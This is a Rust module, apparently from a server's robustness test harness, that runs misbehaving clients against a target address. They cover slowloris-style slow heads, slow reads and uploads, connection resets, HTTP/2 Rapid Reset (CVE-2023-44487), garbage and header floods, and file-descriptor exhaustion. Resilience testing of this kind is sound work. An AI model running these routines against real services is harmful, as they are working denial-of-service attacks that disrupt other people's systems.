//! Clients that misbehave. Their responses are not checked.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use bytes::Bytes;
use futures_util::future::join_all;
use http::Request;
use http_body_util::Empty;
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use crate::tally::Tally;

/// Runs every attack repeatedly until this time. The attacks stop themselves, so that no connection remains.
pub(crate) async fn attack(address: SocketAddr, descriptors: usize, tally: &Tally, until: Instant) {
    let going = || Instant::now() < until;
    let slow_heads = join_all((0..8).map(async |_| {
        while going() {
            slow_head(address).await;
            tally.add_event("slow heads");
        }
    }));
    let slow_readers = join_all((0..6).map(async |_| {
        while going() {
            slow_reader(address).await;
            tally.add_event("slow readers");
        }
    }));
    let slow_uploads = join_all((0..6).map(async |_| {
        while going() {
            slow_upload(address).await;
            tally.add_event("slow uploads");
        }
    }));
    let resets = async {
        while going() {
            reset(address).await;
            tally.add_event("resets");
            sleep(Duration::from_millis(20)).await;
        }
    };
    let rapid_resets = async {
        while going() {
            rapid_reset(address).await;
            tally.add_event("HTTP/2 rapid resets");
            sleep(Duration::from_millis(500)).await;
        }
    };
    let floods = async {
        while going() {
            join_all((0..60).map(|index| flood(address, index))).await;
            tally.add_event("floods");
            sleep(Duration::from_secs(2)).await;
        }
    };
    let exhaustions = async {
        while going() {
            sleep(Duration::from_secs(10)).await;
            exhaust(address, descriptors).await;
            tally.add_event("times without free descriptors");
        }
    };
    tokio::join!(
        slow_heads,
        slow_readers,
        slow_uploads,
        resets,
        rapid_resets,
        floods,
        exhaustions
    );
}

/// Sends a request head byte by byte, and disconnects before the end of the head.
async fn slow_head(address: SocketAddr) {
    let Ok(mut stream) = TcpStream::connect(address).await else {
        return;
    };
    for byte in b"GET /hello HTTP/1.1\r\nHost: a\r\n" {
        if stream.write_all(&[*byte]).await.is_err() {
            return;
        }
        sleep(Duration::from_millis(100)).await;
    }
}

/// Reads a large response slowly, and disconnects in the middle of the response.
async fn slow_reader(address: SocketAddr) {
    let Ok(mut stream) = TcpStream::connect(address).await else {
        return;
    };
    let request = b"GET /large/100000000 HTTP/1.1\r\nHost: a\r\n\r\n";
    if stream.write_all(request).await.is_err() {
        return;
    }
    let mut buffer = [0; 4096];
    for _ in 0..50 {
        if !matches!(stream.read(&mut buffer).await, Ok(1..)) {
            return;
        }
        sleep(Duration::from_millis(50)).await;
    }
}

/// Sends a request body slowly, and disconnects in the middle of the body.
async fn slow_upload(address: SocketAddr) {
    let Ok(mut stream) = TcpStream::connect(address).await else {
        return;
    };
    let head = b"POST /raw HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n";
    let _ = stream.write_all(head).await;
    for _ in 0..30 {
        if stream.write_all(&[b'x'; 100]).await.is_err() {
            return;
        }
        sleep(Duration::from_millis(100)).await;
    }
}

/// Resets the connection (RST) while the server responds.
async fn reset(address: SocketAddr) {
    let Ok(mut stream) = TcpStream::connect(address).await else {
        return;
    };
    let request = b"GET /stream?chunks=100&size=10000&delay_ms=1 HTTP/1.1\r\nHost: a\r\n\r\n";
    let _ = stream.write_all(request).await;
    let _ = timeout(Duration::from_millis(50), stream.read(&mut [0; 1000])).await;
    let _ = stream.set_zero_linger();
}

/// Opens HTTP/2 streams and resets them at once (CVE-2023-44487).
async fn rapid_reset(address: SocketAddr) {
    let Ok(stream) = TcpStream::connect(address).await else {
        return;
    };
    let io = TokioIo::new(stream);
    let Ok((mut sender, connection)) = http2::handshake(TokioExecutor::new(), io).await else {
        return;
    };
    let connection = tokio::spawn(connection);
    for _ in 0..100 {
        let request = Request::get(format!("http://{address}/sleep/1000"));
        let request = request
            .body(Empty::<Bytes>::new())
            .expect("expected a valid request");
        if sender.ready().await.is_err() {
            break;
        }
        // Dropping the future resets the stream.
        let _ = timeout(Duration::from_millis(1), sender.send_request(request)).await;
    }
    drop(sender);
    connection.abort();
}

/// Sends garbage, or many requests at once.
async fn flood(address: SocketAddr, index: usize) {
    let Ok(mut stream) = TcpStream::connect(address).await else {
        return;
    };
    let bytes = match index % 3 {
        0 => vec![0xFF; 10_000],
        1 => b"GET /hello HTTP/1.1\r\nHost: a\r\n\r\n".repeat(50),
        _ => [
            &b"GET /hello HTTP/1.1\r\nHost: a\r\nx: "[..],
            &[b'y'; 100_000],
        ]
        .concat(),
    };
    let _ = timeout(Duration::from_secs(1), stream.write_all(&bytes)).await;
    let _ = timeout(Duration::from_millis(200), stream.read(&mut [0; 100_000])).await;
}

/// Opens more connections than the server has descriptors, and keeps them for two seconds.
async fn exhaust(address: SocketAddr, descriptors: usize) {
    let connect = || timeout(Duration::from_secs(1), TcpStream::connect(address));
    let streams = join_all((0..descriptors + 50).map(|_| connect())).await;
    sleep(Duration::from_secs(2)).await;
    drop(streams);
}
